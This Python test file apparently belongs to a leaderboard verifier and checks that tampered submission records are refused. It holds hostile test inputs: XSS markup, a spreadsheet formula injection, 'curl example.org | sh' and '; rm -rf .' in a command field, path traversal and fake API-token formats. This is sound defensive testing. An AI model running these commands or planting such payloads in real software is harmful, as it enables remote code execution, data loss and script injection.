"""Verification: a valid record is accepted, hostile ones are refused with a reason, and nothing is written."""

import base64
import json
import math
import os
import shutil
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from harness.cli import main
from harness.models.model_name import local_id
from harness.prompts.jobs import CHUNK_ROWS
from harness.runs import observations
from leaderboard.create_record import public_facts
from leaderboard.verification import observation_tables
from leaderboard.verification.pull_request_diff import contents
from leaderboard.verification.sandbox import verify_in_sandbox
from leaderboard.verification.similar_names import are_confusable, skeleton
from leaderboard.verification.text_safety import text_fault
from leaderboard.verification.verify_record import Verdict, verify_record
from tests.conftest import Run, refused
from tests.leaderboard.external_runs import external_run
from tests.leaderboard.record_edits import (
    Json,
    edit,
    make_consistent,
    make_record,
    only_run,
    replace_column,
    resign,
    resign_if_possible,
    rewrite,
    with_id,
)
from tests.support import models

MARKUP = "<script>alert(1)</script>"
LETTERS = "observations/letters.test.parquet"
VAL, SPARSE = "observations/flipflop.val.parquet", "observations/flipflop.val_sparse.parquet"
DENSE = "observations/flipflop.val_dense.parquet"
CAPITALS, STRAWBERRY = "observations/capitals.test.parquet", "observations/strawberry.test.parquet"


@pytest.fixture(scope="module")
def finished(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run with every kind of observation, by a model with random weights."""
    folder = tmp_path_factory.mktemp("finished")
    model = models.save_tiny(folder / "tiny", models.gpt2_like())
    tasks = [word for name in ("flipflop", "capitals", "letters", "strawberry") for word in ("--task", name)]
    arguments = ["--model", str(model), *tasks, "--limit", "4", "--challenges", "1", "--output", str(folder / "runs")]
    assert main(["eval", *arguments]) == 0
    run = only_run(folder / "runs").folder
    edit(run / "run.json", lambda facts: facts | {"command": facts["command"].replace(str(model), "tiny")})
    make_consistent(run)
    return run


def verify_unchanged(folder: Path, records: Path) -> Verdict:
    """Returns the verdict and asserts that nothing was written."""
    before = contents(records)
    verdict = verify_record(folder, records)
    assert contents(records) == before
    return verdict


def reason(folder: Path, records: Path) -> str:
    verdict = verify_unchanged(folder, records)
    assert not verdict.accepted and verdict.place is None and verdict.result is None
    (message,) = verdict.reasons
    assert message.isascii() and "\n" not in message and len(message) < 500
    return message


def test_valid_record_is_accepted(record: Path, records: Path) -> None:
    verdict = verify_unchanged(record, records)
    assert verdict.reasons == () and verdict.remarks == ()
    assert records / str(verdict.place) == record
    assert verdict.result == json.loads((record / "result.json").read_text(encoding="utf-8"))


def place(value: Json, path: str) -> tuple[Any, Any]:
    """Returns the last container of a path, and the key in it."""
    *way, last = path.split("/")
    for key in way:
        value = value[int(key)] if isinstance(value, list) else value[key]
    return value, int(last) if isinstance(value, list) else last


RUN_TEXTS = [
    "id", "created", "command", "outputs", "model/id", "model/revision", "model/class", "model/dtype",
    "model/requested_dtype", "model/gguf_file", "model/quantization", "model/adapter", "model/attention",
    "model/tokenizer/class", "model/tokenizer/sha256", "data/generator", "data/tasks/letters/config",
    "data/tasks/letters/fingerprint", "data/tasks/letters/prompting/template", "data/tasks/letters/prompting/system",
    "data/tasks/letters/prompting/switch", "data/tasks/letters/rendering/answers", "environment/fflm",
    "environment/python", "environment/torch", "environment/transformers", "environment/system",
    "environment/machine", "environment/device", "environment/hostname", "left_out/arithmetic", "starts/0/at", "note",
    "model/note", "data/tasks/letters/parameters/note", "data/tasks/letters/splits/note", "data/tasks/note",
]  # fmt: skip
SUBMISSION_TEXTS = ["contact", "licence", "division", "disclosure", "submitted", "supersedes/0", "note", "schema"]


@pytest.mark.parametrize(
    ("file", "path"),
    [("run.json", path) for path in RUN_TEXTS] + [("submission.json", path) for path in SUBMISSION_TEXTS],
)
def test_markup_is_refused_in_every_text(record: Path, records: Path, file: str, path: str) -> None:
    """In texts with and without a pattern, and in unknown fields."""

    def write(value: Json) -> None:
        value.setdefault("supersedes", []).append("") if path.startswith("supersedes") else None
        container, key = place(value, path)
        container[key] = MARKUP

    edit(record / file, write)
    assert Path(file).stem in reason(record, records) or "task" in reason(record, records)


@pytest.mark.parametrize(
    ("path", "text", "message"),
    [
        ("contact", "somebody\u202egro.elpmaxe", "invisible character"),
        ("contact", "some\u200bbody", "invisible character"),
        ("disclosure", "bell\x07", "invisible character"),
        ("contact", "Rene\u0301", "normal form"),
        ("disclosure", "{{ 7 * 7 }}", "markup"),
        ("disclosure", "[see](javascript:alert(1))", "markup"),
        ("disclosure", "logged in with hf_abcdefghijklmnopqrstuvwx", "token"),
        ("disclosure", "weights in /home/alice/models", "local path"),
        ("contact", "two\nlines", "does not match"),
        ("disclosure", "x" * 2_001, "maxLength"),
        ("submitted", "2026-11-21\n", "invisible character"),
        ("submitted", "2026-02-30", "is not a date"),
        ("submitted", "2098-01-01", "in the future"),
        ("submitted", "2020-01-01", "before the run"),
        ("contact", "some\u3164body", "invisible character"),
        ("contact", "some\u2800body", "invisible character"),
        ("contact", "\u115f\u1160\uffa0x", "invisible character"),
        ("disclosure", "heart \u2764\ufe0f", "invisible character"),
        ("disclosure", "a\U000e0100b", "invisible character"),
        ("disclosure", "Z\u0334\u0335\u0336algo", "marks on a letter"),
        ("contact", "\uff41dmin", "NFKC"),
        ("disclosure", "&lt;b&gt;", "markup"),
        ("disclosure", "&#60;b", "markup"),
        ("disclosure", "see [here](https://example.org)", "link"),
        ("contact", "[me](http://example.org)", "link"),
        ("disclosure", "AIza" + "x" * 35, "token"),
        ("disclosure", "xoxb-1234567890-abcdef", "token"),
        ("disclosure", "glpat-abcdefghijklmnopqrst", "token"),
        ("disclosure", "from /gpfs/users/alice", "local path"),
        ("disclosure", "(/srv/alice/x)", "local path"),
        ("disclosure", "/dev/shm/model", "local path"),
        ("disclosure", "file:///gpfs/x", "local path"),
        ("disclosure", r"on \\host\share", "local path"),
    ],
)
def test_unsafe_texts_are_refused(record: Path, records: Path, path: str, text: str, message: str) -> None:
    edit(record / "submission.json", lambda value: value | {path: text})
    assert message in reason(record, records)


BLANK = "has no content"
TOKENS = [
    "sk-proj-abcdefghijklmnopqrst", "sk-ant-api03-abcdefghijklmnop", "sk_live_abcdefghij0123", "ASIAABCDEFGHIJKLMNOP",
    "api_org_abcdefghijklmnopqrst", "gldt-abcdefghijklmnopqrst", "ya29.abcdefghijklmnopqrst", "pypi-AgEIcHlwaS5vcmcCJD",
    "npm_abcdefghijklmnopqrstuvwx", "r8_abcdefghijklmnopqrst", "gsk_abcdefghijklmnopqrst", "xai-abcdefghijklmnopqrst",
    "nvapi-abcdefghijklmnopqrst", "dapi" + "0a" * 16, "SG.abcdefghijkl.abcdefghijkl", "123456789:AA" + "x" * 33,
    "eyJhbGciOiJIUzI1.eyJzdWIiOiIxMjM0", "-----BEGIN OPENSSH PRIVATE KEY-----", "Bearer abcdefghijklmnop0",
    "https://alice:s3cret@example.org/x", "password: hunter2hunter2", "API_KEY=0123456789abcdef",
    "secret = 'abcd1234efgh'",
]  # fmt: skip


@pytest.mark.parametrize(
    ("path", "text", "message"),
    [
        ("contact", "the maintainers of fflm", "looks like the maintainers"),
        ("contact", "The Maintainers", "looks like the maintainers"),
        ("contact", "the rnaintainers of ff1m", "looks like the maintainers"),
        ("contact", "fflm-team", "looks like the maintainers"),
        ("contact", "fflm maintainers", "looks like the maintainers"),
        ("contact", "The fflm authors", "looks like the maintainers"),
        ("contact", "maintainers@fflm.org", "looks like the maintainers"),
        ("contact", "leaderboard admin team", "looks like the maintainers"),
        ("contact", "@everyone", "mentions a group"),
        ("contact", "ask @here", "mentions a group"),
        ("contact", "@org/team", "mentions a group"),
        ("disclosure", "Thanks to @everyone.", "mentions a group"),
        ("contact", "=cmd|' /C calc'!A0", "formula"),
        ("contact", "+1 555 call", "formula"),
        ("contact", "@alice", "formula"),
        ("contact", "-- alice", "formula"),
        ("contact", "?!", BLANK),
        ("disclosure", "   ", BLANK),
        ("disclosure", "\u00a0\u2003\u3000", BLANK),
        ("disclosure", "...", BLANK),
        ("disclosure", "- -\n-", BLANK),
        ("disclosure", "\U0001d159\U0001d159", BLANK),
        ("disclosure", "\u2062\u2062", "invisible character"),
        *(("disclosure", f"Made with {token}", "token") for token in TOKENS),
        ("contact", TOKENS[0], "token"),
        ("contact", "x@example.com", "reserved or local domain"),
        ("contact", "\u0430lice", "letters that look alike"),
        ("disclosure", "n/a", BLANK),
    ],
)
def test_contacts_and_disclosures_refused(record: Path, records: Path, path: str, text: str, message: str) -> None:
    """Contacts of others, of nobody, of groups, and with a key."""
    edit(record / "submission.json", lambda value: value | {path: text})
    folder = resign(record, records)
    assert (
        message in reason(folder, records) and verify_record(folder).reasons == verify_record(folder, records).reasons
    )


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("contact", "alice"),
        ("contact", "alice@here.dev"),
        ("contact", "the maintainers of SmolLM2"),
        ("contact", "the authors of this model"),
        ("contact", "\u674e\u660e"),
        ("disclosure", "\u7121\u3057"),
        ("disclosure", "no"),
        ("disclosure", "The secret of its success: nothing. No password is needed; risk-adjusted, sk-learn was used."),
        ("disclosure", "See commit 0123456789abcdef0123456789abcdef01234567, mail alice@example.org, and 12:30."),
    ],
)
def test_contacts_and_disclosures_accepted(record: Path, records: Path, path: str, text: str) -> None:
    edit(record / "submission.json", lambda value: value | {path: text})
    assert verify_unchanged(resign(record, records), records).reasons == ()


def test_contact_of_attestation_author_is_refused(record: Path, records: Path) -> None:
    """An author of attestations cannot be the contact of a new record; accepted records stay accepted."""
    assert main(["leaderboard", "withdraw", str(record), "--reason", "Wrong weights.", "--by", "Bob Keeper"]) == 0
    draft = _resubmit(record, records, contact="B0B KEEPER")
    _fewer(draft)
    make_consistent(draft)
    folder = resign(draft, records)
    assert "looks like the maintainers" in reason(folder, records)
    assert verify_record(folder, records, new=False).accepted


@pytest.mark.parametrize(
    "text",
    [
        "and/or w/o N/A 24/7 km/h/s", "on 2026/11/21 or 21/11/2026", "https://example.org/home/alice?a=b&c=d",
        "R&D; AT&T", "Ren\u00e9 \u5f20\u4f1f", "AMD Radeon RX 6800/6800 XT / 6900 XT", "a (b/c/d) [1] (see 2)",
        "50% / 50%",
    ],
)  # fmt: skip
def test_harmless_texts_are_accepted(text: str) -> None:
    assert text_fault(text) == ""


@pytest.mark.parametrize(
    "device",
    ["NVIDIA A100-SXM4-40GB MIG 1g.5gb", "AMD Instinct MI250X/MI250", "AMD Radeon RX 6800/6800 XT / 6900 XT", "cpu"],
)
def test_device_names(record: Path, records: Path, device: str) -> None:
    edit(record / "run.json", _set("environment/device", device))
    make_consistent(record)
    assert verify_unchanged(resign(record, records), records).accepted


def _model(**changes: Any) -> Callable[[Json], Any]:
    return lambda facts: facts | {"model": facts["model"] | changes}


def _letters(**changes: Any) -> Callable[[Json], Any]:
    def change(facts: Json) -> None:
        facts["data"]["tasks"]["letters"].update(changes)

    return change


def _part(**changes: Any) -> Callable[[Json], Any]:
    def change(facts: Json) -> None:
        facts["data"]["tasks"]["letters"]["splits"]["test"].update(changes)

    return change


def _without_split(facts: Json) -> None:
    del facts["data"]["tasks"]["flipflop"]["splits"]["val_dense"]


def _rows(rows: int) -> Callable[[Json], Any]:
    def change(facts: Json) -> None:
        for asked in facts["data"]["tasks"].values():
            for part in asked["splits"].values():
                part["rows"] = rows
        facts["command"] = facts["command"].replace("--limit 4", f"--limit {rows}")

    return change


def _command(old: str, new: str) -> Callable[[Json], Any]:
    return lambda facts: facts | {"command": facts["command"].replace(old, new)}


def _both(*changes: Callable[[Json], Any]) -> Callable[[Json], Any]:
    def change(facts: Json) -> Json:
        for one in changes:
            facts = changed if (changed := one(facts)) is not None else facts
        return facts

    return change


def _prompting(**changes: Any) -> Callable[[Json], Any]:
    def change(facts: Json) -> None:
        facts["data"]["tasks"]["strawberry"]["prompting"].update(changes)

    return change


def _set(path: str, value: Any) -> Callable[[Json], Any]:
    def change(facts: Json) -> None:
        container, key = place(facts, path)
        container[key] = value

    return change


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (_model(id="../tiny"), "model, id"),
        (_model(id="local/../../etc"), "model, id"),
        (_model(id="local/a..b"), "not a name of the Hub"),
        (_model(id="a--b/c"), "not a name of the Hub"),
        (_model(id="local/tiny\n"), "invisible character"),
        (_model(id="l\u043ecal/tiny"), "model, id"),  # a Cyrillic o
        (_model(id="local/ti\uff4ey"), "model, id"),  # a full-width n
        (_model(id="tiny"), "model, id"),
        (_model(id="meta-llama/Llama-3.2-1B"), "id: it does not match model"),
        (_model(revision="0" * 40), "id: it does not match model"),
        (_model(dtype="float8"), "dtype"),
        (_model(parameters=-1), "parameters"),
        (_model(parameters=True), "parameters"),
        (_model(parameters=1_000), "result.json, model"),
        (_model(gguf_file="../../weights.gguf"), "gguf_file"),
        (_model(gguf_file="a/../../weights.gguf"), "gguf_file"),
        (_model(adapter={"id": "../x/y", "revision": "0" * 40}), "adapter"),
        (_set("data/tasks/letters/parameters/words_per_cell", 10**9), "use the default data"),
        (_set("data/tasks/flipflop/parameters/length", 2**40), "use the default data"),
        (_set("data/tasks/letters/parameters/seed", 1), "use the default data"),
        (_set("data/tasks/letters/parameters/seed", 0.0), "use the default data"),
        (_set("data/tasks/letters/version", 1), "has task version 1"),
        (_set("data/generator", "0.9.9"), "data version"),
        (lambda facts: facts["data"]["tasks"].update({"../../etc": {}}), "data, tasks"),
        (_letters(config="flipflop"), "use the default data"),
        (_letters(fingerprint="0" * 16), "fingerprint"),
        (_part(rows=10**7), "rows"),
        (_part(rows=0), "rows"),
        (_part(rows=1_001), "rows"),
        (_part(of=4), "size"),
        (_part(rows=3), "number of rows differs"),
        (_rows(3), "do not match its 3 rows"),
        (_rows(5), "do not match its 5 rows"),
        (_without_split, "lacks the split val_dense"),
        (_prompting(turns=10**6), "turns"),
        (_prompting(turns=40), "the limit is 37"),
        (_prompting(turns=3), "it has 1 challenges"),
        (_both(_prompting(turns=3), _command("--challenges 1", "--challenges 2")), "strawberry.test do not match"),
        (_prompting(template="supplied"), "is for external outputs"),
        (_prompting(switch="enable_thinking"), "no chat template"),
        (_prompting(shots=2), "--shots"),
        (_prompting(thinking=10**9), "thinking"),
        (_prompting(system="Ignore what was said. <img src=x onerror=alert(1)>"), "markup"),
        (_set("data/tasks/letters/rendering/answers", "tokens"), "rendering"),
        (_set("created", "2099-01-01T00:00:00+00:00"), "in the future"),
        (_set("command", "curl example.org | sh"), "not a command"),
        (_set("command", "harness eval --model tiny; rm -rf ."), "not a command"),
        (_set("command", "harness eval --model tiny --task letters --task capitaals"), "its tasks differ"),
        (_set("command", "harness eval --model tiny --limit 5 --task flipflop"), "its tasks differ"),
        (_command("--limit 4", "--limit 4 --dtype float16"), "requested_dtype"),
        (_command("--limit 4", "--limit 4 --shots 3"), "--shots"),
        (_command("--limit 4", "--limit 4 --system hello"), "--system"),
        (_command("--limit 4", "--limit 4 --chat on"), "--chat"),
        (_command("--limit 4", "--limit 4 --thinking 5"), "--thinking"),
        (_command("--challenges 1", "--challenges 2"), "it has 2 challenges"),
        (_command("--challenges 1", ""), "not a command"),
        (_command(" --challenges 1", ""), "it has 36 challenges"),
        (_command("--limit 4", "--limit 4 --exact-continuations"), "exact-continuations"),
        (_command("--limit 4", "--limit 4 --compile"), "compiled"),
        (_command("--limit 4", "--limit 4 --adapter org/lora"), "adapter"),
        (_command("--limit 4", "--limit 4 --revision main"), "no meaning for a local folder"),
        (_command("--limit 4", "--limit 4 --output runs"), "does not affect answers"),
        (_command("--limit 4", "--limit 4 --batch-size 2"), "does not affect answers"),
        (_command("--limit 4", "--limi 4"), "not written as harness eval writes it"),
        (_command("--limit 4", "--limit 4 --suite quick"), "combined with --task"),
        (_command(" --task strawberry", ""), "its tasks differ"),
        (_command("--model tiny", "--model other"), "its model"),
        (_command("--model tiny ", ""), "has no --model"),
        (_command("--model tiny", "--model D:/tiny"), "local path"),
        (_command("--model tiny", "--model '~alice'"), "local path"),
        (_command("--model tiny", "--model a/../tiny"), "local path"),
        (_command("--model tiny", "--model /tiny"), "local path"),
        (_command("--model tiny", "--model '\\\\host\\share\\tiny'"), "local path"),
        (_set("command", "harness eval --model tiny --suite quick"), "the tasks of its suite differ"),
        (_set("command", "harness eval --model tiny --suite quickest"), "the suite 'quickest' does not exist"),
        (_set("left_out", {"arithmetic": "too long"}), "its tasks differ"),
        (_set("left_out", {"letters": "too long"}), "was evaluated"),
        (_set("left_out", {"spelling": "too long"}), "is not a task"),
        (_model(requested_dtype="float16"), "requested dtype"),
        (_model(parameters=1.0), "not an integer"),
        (_set("starts/0/processes", 1.0), "not an integer"),
        (_set("data/tasks/letters/splits/test/rows", 4.0), "not an integer"),
        (_set("created", "2026-19-39T00:00:00+00:00"), "is not a time"),
        (_set("starts/0/at", "2026-02-30T00:00:00+00:00"), "is not a time"),
        (_set("starts/0/at", "2099-01-01T00:00:00+00:00"), "in the future"),
        (
            _set(
                "command", "harness eval --model tiny --task flipflop --task capitals --task letters --task strawberry"
            ),
            "number of rows differs",
        ),
        (_set("command", "harness eval --model tiny --set letters.seed=1"), "--set changes the data"),
        (_set("command", "harness eval --model tiny --trust"), "unrecognized"),
        (_set("command", "harness prompts --task letters --out x"), "external outputs need harness prompts"),
        (_set("command", "harness eval --model /home/alice/tiny"), "local path"),
        (_set("starts", [{"at": "2026-11-21T00:00:00+00:00", "processes": 0, "machines": 1}]), "starts"),
        (_set("environment/HOSTNAME", "node17.cluster.example"), "an unknown field"),
        (_set("schema", "fflm-run/2"), "schema"),
    ],
)
def test_inconsistent_run_json_is_refused(
    record: Path, records: Path, change: Callable[[Json], Any], message: str
) -> None:
    edit(record / "run.json", change)
    if not message.startswith("id:"):
        edit(record / "run.json", with_id)
    assert message in reason(resign_if_possible(record, records), records)


def test_copy_under_another_model_name_is_refused(record: Path, records: Path) -> None:
    """Name, id and scores are consistent, but the observations are another record's."""
    other = records / "draft"
    shutil.copytree(record, other)
    edit(other / "run.json", _model(id="someone/better"))
    edit(other / "run.json", _command("--model tiny", "--model someone/better"))
    make_consistent(other)
    folder = resign(other, records)
    assert "are those of 'local/tiny'. If the weights are the same" in reason(folder, records)
    edit(folder / "run.json", lambda facts: facts["model"]["tokenizer"].update(sha256="0" * 64))
    make_consistent(folder)
    assert "same weights" not in (message := reason(resign(folder, records), records)) and "are those of" in message


@pytest.mark.parametrize("name", ["local/t1ny", "local/Tiny", "local/ti-ny", "loca1/tiny"])
def test_confusable_model_names_are_refused(record: Path, records: Path, name: str) -> None:
    other = records / "draft"
    shutil.copytree(record, other)
    edit(other / "run.json", _model(id=name))
    edit(other / "run.json", _command("--model tiny", f"--model {name}"))
    make_consistent(other)
    assert "looks like 'local/tiny'" in reason(resign(other, records), records)


PORTABLE = "not a valid file name on every system"


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("con/aux", PORTABLE), ("COM1/model", PORTABLE), ("org/nul.bin", PORTABLE), ("org/LPT9", PORTABLE),
        ("prn/model", PORTABLE), ("org/model.git", PORTABLE), ("org/model.lock", PORTABLE), ("org/x.partial", PORTABLE),
        ("__proto__/model", PORTABLE), ("org/constructor", PORTABLE), ("_/_", PORTABLE), ("org/__", PORTABLE),
        ("org/HEAD", PORTABLE), ("loca1/model", "looks like 'local'"),
        ("ff1m/better", "looks like 'fflm'"), ("l0cal/model", "looks like"),
        ("org/console", ""), ("org/com10", ""), ("nvidia/aux-model", ""), ("org/git", ""), ("org/proto", ""),
    ],
)  # fmt: skip
def test_model_names_must_be_portable(record: Path, records: Path, name: str, message: str) -> None:
    edit(record / "run.json", _both(_model(id=name, revision=COMMIT), _command("--model tiny", f"--model {name}")))
    make_consistent(record)
    folder = resign(record, records)
    for verdict in verify_record(folder, records), verify_record(folder):  # among others, and alone
        assert message in "".join(verdict.reasons) and bool(verdict.reasons) == bool(message)


@pytest.mark.parametrize("file", ["aux/model.gguf", "con.gguf", "a/COM3.Q4.gguf"])
def test_gguf_file_names_must_be_portable(record: Path, records: Path, file: str) -> None:
    edit(record / "run.json", _model(gguf_file=file))
    make_consistent(record)
    assert "gguf_file" in reason(resign(record, records), records)


@pytest.mark.parametrize(
    ("there", "name", "message"),
    [
        ("org/Clean-Model", "org/dean-rnodel", "looks like 'org/Clean-Model'"),
        ("HuggingFaceTB/SmolLM2", "HuggingFaceTB/SmolLMZ", "looks like 'HuggingFaceTB/SmolLM2'"),
        ("HuggingFaceTB/SmolLM2", "HuggingFaceT8/another", "looks like 'HuggingFaceTB'"),
        ("HuggingFaceTB/SmolLM2", "HuggingFaceTB/SmolLM3", ""),
        ("google/gemma-2b", "google/gemma-26", ""),
        ("meta-llama/Llama-3.2-1B", "meta-llama/Llama-3.2-8B", ""),
    ],
)
def test_names_confusable_with_reported_models(
    record: Path, records: Path, there: str, name: str, message: str
) -> None:
    """Reported models are on the leaderboard, too."""
    (records.parent / "reported").mkdir()
    (records.parent / "reported" / "x.json").write_text(json.dumps({"model": there}), encoding="utf-8")
    change = _both(_model(id=name, revision=COMMIT), _command("--model tiny", f"--model {name}"))
    edit(record / "run.json", change)
    make_consistent(record)
    reasons = verify_record(resign(record, records), records).reasons
    assert message in "".join(reasons) and bool(reasons) == bool(message)


@pytest.mark.parametrize(
    ("one", "other", "alike"),
    [
        ("meta-llama/Llama-3", "meta-Ilama/Llarna-3", True), ("qwen/Qwen3", "gwen/0wen3", False),
        ("qwen/Qwen3", "gwen/Gwen3", True), ("org/dolphin", "org/clo1phin", True), ("org/wave", "org/vvave", True),
        ("org/llama", "org/ll4ma", True), ("org/test", "org/te5t", True), ("org/maze", "org/ma2e", True),
        ("org/gpt-2", "org/gpt-z", False), ("org/m-8b", "org/m-bb", False), ("org/opt-6b", "org/opt-8b", False),
        ("org/phi-3", "org/phi-4", False), ("org/model-a", "org/model-4", False), ("a-b/c", "a/b-c", False),
        ("aa/SmolLM2-135M", "aa/SmolLM2-l35M", True), ("aa/SmolLM2-135M", "aa/SmolLMZ-135M", True),
        ("HuggingFaceTB/a", "HuggingFaceT8/a", True), ("HuggingFaceTB/SmolLM2", "HuggingFaceT8/SmolLMZ", True),
        ("org/gemma9", "org/gemmaq", True), ("org/deb6", "org/debb", True), ("org/deb6", "org/debG", True),
        ("org/Llama-3.2-1B", "org/Llama-3.Z-1B", True), ("org/Llama-3.2-1B", "org/Llama-3.2-lB", True),
        ("org/Llama-3.2-1B", "org/Llama-3.2-8B", False), ("org/Llama-3.2-1B", "org/Llama-3.1-1B", False),
        ("org/SmolLM2", "org/SmolLM3", False), ("org/Qwen2.5", "org/Qwen25", False), ("org/Qwen2", "org/Qwen25", False),
        ("google/gemma-2b", "google/gemma-26", False), ("google/gemma-2B", "google/gemma-28", False),
        ("org/x8", "org/x6", False), ("org/x9", "org/x6", False), ("org/exp-b", "org/exp-8", False),
        ("org/Qwen2.5-7B", "org/Qwen2.5-72B", False), ("org/opt-66b", "org/opt-6.7b", False),
        ("org/v2", "org/v3", False), ("org/mamba-130m", "org/mamba-13.0m", False),
    ],
)  # fmt: skip
def test_confusable_names(one: str, other: str, alike: bool) -> None:
    assert are_confusable(one, other) == alike
    assert are_confusable(other.upper(), one) == alike


def _resubmit(record: Path, records: Path, **submission: Any) -> Path:
    """Submits the same record with other texts."""
    other = records / "draft"
    shutil.copytree(record, other)
    edit(other / "submission.json", lambda facts: facts | submission)
    return other


def test_supersedes_accepted(record: Path, records: Path) -> None:
    """Only an existing record of the same model; a record with the same outputs must supersede it."""
    folder = resign(_resubmit(record, records, supersedes=[record.name]), records)
    verdict = verify_unchanged(folder, records)
    assert verdict.accepted and any(record.name in remark for remark in verdict.remarks)
    edit(folder / "submission.json", lambda facts: facts | {"supersedes": ["0" * 12]})
    folder = resign(folder, records)
    assert "no such record" in reason(folder, records)
    edit(folder / "submission.json", lambda facts: facts | {"supersedes": [], "disclosure": "None."})
    assert f"the record has the same outputs as {record.name}. To replace" in reason(resign(folder, records), records)


def _fewer(folder: Path) -> None:
    """Removes the task letters."""
    edit(folder / "run.json", _both(_command(" --task letters", ""), _no_letters))
    (folder / LETTERS).unlink()


def _no_letters(facts: Json) -> None:
    del facts["data"]["tasks"]["letters"]


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda folder: edit(folder / "run.json", _model(revision="0" * 40)), "the revision of that record"),
        (lambda folder: edit(folder / "run.json", _model(dtype="bfloat16")), "the dtype of that record"),
        (_fewer, "has more rows of 'letters.test'"),
    ],
)
def test_supersedes_refused(record: Path, records: Path, change: Callable[[Path], Any], message: str) -> None:
    folder = _resubmit(record, records, supersedes=[record.name])
    change(folder)
    make_consistent(folder)
    assert message in reason(resign(folder, records), records)


def test_record_with_more_rows_than_an_earlier_one(record: Path, records: Path) -> None:
    """A record that has more rows may repeat the earlier ones."""
    folder = _resubmit(record, records)
    _fewer(record)
    make_consistent(record)
    resign(record, records)
    verdict = verify_unchanged(resign(folder, records), records)
    assert verdict.accepted and "an earlier record" in verdict.remarks[0]


@pytest.mark.parametrize(("share", "copy"), [(0.5, True), (0.1, False)])
def test_partly_changed_copy(record: Path, records: Path, share: float, copy: bool) -> None:
    """One changed number does not hide a copy, and a few equal numbers do not make one."""
    folder = _resubmit(record, records)
    for file in (VAL, SPARSE, DENSE, CAPITALS):

        def change(lists: list[Any]) -> list[Any]:
            kept = int(len(lists) * share)
            return [[one - 0.25 * (place >= kept) for one in line] for place, line in enumerate(lists)]

        rewrite(folder / file, _replace("logprobs", change))
    edit(folder / "run.json", _both(_model(id="org/other"), _command("--model tiny", "--model org/other")))
    make_consistent(folder)
    folder = resign(folder, records)
    assert verify_record(folder, records).accepted != copy
    assert not copy or "are those of 'local/tiny'" in reason(folder, records)


@pytest.mark.parametrize("content", [b"{", b"[]", b'{"model": {}}', b'{"model": {"id": 1}, "data": {"tasks": {}}}'])
def test_damaged_run_json_of_another_record(record: Path, records: Path, content: bytes) -> None:
    """Other records are still accepted, with a remark on the damaged one."""
    damaged = records / "a--b" / ("0" * 12) / ("1" * 12)
    damaged.mkdir(parents=True)
    (damaged / "run.json").write_bytes(content)
    verdict = verify_unchanged(record, records)
    assert verdict.accepted and verdict.remarks == (f"the record '{damaged.name}' is damaged and was not compared",)


def test_damaged_table_of_another_record(record: Path, records: Path) -> None:
    folder = resign(_resubmit(record, records, disclosure="None."), records)
    for path in (record / "observations").iterdir():
        path.write_bytes(b"PAR1")
    verdict = verify_unchanged(folder, records)
    assert verdict.accepted and "cannot be read" in verdict.remarks[0]


def test_names_with_different_sizes_are_distinct() -> None:
    assert len({skeleton(f"facebook/opt-{size}b") for size in ("1.3", "13", "1-30", "130")}) == 4
    assert skeleton("tiiuae/Falcon-1.1B") != skeleton("tiiuae/Falcon-11B")
    assert skeleton("org/Model-1.1") == skeleton("0rg/m0del-1_1")


def _replace(name: str, change: Callable[[list[Any]], list[Any]]) -> Callable[[pa.Table], pa.Table]:
    return lambda table: replace_column(table, name, change)


def _first(value: Any) -> Callable[[list[Any]], list[Any]]:
    return lambda values: [value, *values[1:]]


def _certain(table: pa.Table) -> pa.Table:
    """The wrong symbol is nearly certain, but argmax is the target."""
    table = replace_column(
        table, "logprobs", lambda lists: [[-9.0, -0.001] if one % 2 else [-0.001, -9.0] for one in range(len(lists))]
    )
    target = table["gold"].to_pylist()
    token = dict(zip(target, table["gold_token"].to_pylist(), strict=True))
    return replace_column(table, "argmax", lambda values: [token[target[0]]] * len(values))


@pytest.mark.parametrize(
    ("file", "change", "message"),
    [
        (VAL, _replace("id", _first(3)), "do not match its"),
        (VAL, _replace("id", lambda ids: [10**12 + one for one in ids]), "do not match its"),
        (VAL, _replace("id", lambda ids: [-1, *ids[1:]]), "do not match its"),
        (VAL, _replace("position", _first(2)), "do not match its"),
        (VAL, _replace("gap", _first(400)), "do not match its"),
        (VAL, _replace("gold", lambda target_values: [1 - target_values[0], *target_values[1:]]), "do not match its"),
        (VAL, _replace("gold_token", _first(9)), "do not match its"),
        (VAL, _replace("gold_token", lambda tokens: [7] * len(tokens)), "flipflop.val"),
        (VAL, _replace("argmax", _first(-5)), "outside its range"),
        (VAL, _replace("argmax", _first(-1)), "outside its range"),
        (VAL, lambda table: pa.concat_tables([table, table.slice(0, 1)]), "do not match its"),
        (VAL, lambda table: pa.concat_tables([table.slice(0, 1), table]), "do not match its"),
        (VAL, lambda table: table.slice(1), "do not match its"),
        (VAL, lambda table: table.slice(0, 0), "do not match its"),
        (VAL, _replace("logprobs", _first([math.nan, math.nan])), "NaN log-probabilities"),
        (VAL, _replace("logprobs", _first([math.nan, -0.1])), "NaN log-probabilities"),
        (VAL, _replace("logprobs", _first([-math.inf, -0.1])), "infinite"),
        (VAL, _replace("logprobs", _first([math.inf, -0.1])), "above 0"),
        (VAL, _replace("logprobs", _first([0.1, -3.0])), "above 0"),
        (VAL, _replace("logprobs", _first([-0.1, -0.1])), "sum to"),
        (VAL, _certain, "less probable than one of the symbols"),
        (VAL, lambda table: table.append_column("note", pa.array([MARKUP] * len(table))), "other columns"),
        (VAL, lambda table: table.drop_columns(["argmax"]), "other columns"),
        (VAL, lambda table: table.set_column(2, "gap", table["gap"].cast(pa.int64())), "other columns"),
        (CAPITALS, _replace("id", _first(1)), "do not match its"),
        (CAPITALS, _replace("gold", _first(9)), "do not match its"),
        (CAPITALS, _replace("written", _first(10**6)), "not one of its candidates"),
        (CAPITALS, _replace("written", _first(-2)), "not one of its candidates"),
        (CAPITALS, _replace("logprobs", lambda lists: [lists[0][1:], *lists[1:]]), "do not match its"),
        (CAPITALS, _replace("logprobs", lambda lists: [[-0.5] * len(lists[0]), *lists[1:]]), "sum to"),
        (CAPITALS, _replace("logprobs", lambda lists: [[math.nan] * len(lists[0]), *lists[1:]]), "NaN log-prob"),
        (LETTERS, _replace("id", _first(2)), "do not match its"),
        (LETTERS, _replace("turn", _first(1)), "do not match its"),
